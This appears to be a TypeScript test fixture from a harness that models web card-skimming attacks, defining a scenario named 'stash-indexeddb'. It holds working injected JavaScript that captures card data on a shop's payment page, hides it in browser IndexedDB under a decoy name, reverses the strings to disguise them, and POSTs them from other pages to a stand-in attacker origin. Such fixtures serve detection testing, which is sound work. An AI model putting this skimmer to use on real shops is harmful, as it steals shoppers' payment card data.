import { holds, js, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'stash-indexeddb',
  why: 'A database in the browser keeps it until another page of the shop posts it.',
  covers: ['hard: stash', 'sending: XHR'],
  base: 'direct',
  install: (site) => {
    const open = js`var opened = indexedDB.open('perf', 1);
    opened.onupgradeneeded = function () { opened.result.createObjectStore('q', { autoIncrement: true }); };`;
    site.append(
      onPay(js`
    var text = card();
    ${open}
    opened.onsuccess = function () { opened.result.transaction('q', 'readwrite').objectStore('q').add({ t: text }); };`),
    );
    site.everywhere(js`(function () {
  if (/payment/.test(location.pathname)) return;
  ${open}
  opened.onsuccess = function () {
    var store = opened.result.transaction('q', 'readwrite').objectStore('q'), all = store.getAll();
    all.onsuccess = function () {
      if (!all.result.length) return;
      var x = new XMLHttpRequest();
      x.open('POST', '${site.origins.evil}/metrics');
      x.send(all.result.map(function (r) { return Array.from(r.t).toReversed().join(''); }).join('\n'));
      store.clear();
    };
  };
})();`);
  },
  proof: holds((arrived) => bodies(arrived).map((body) => Array.from(body).toReversed().join(''))),
});
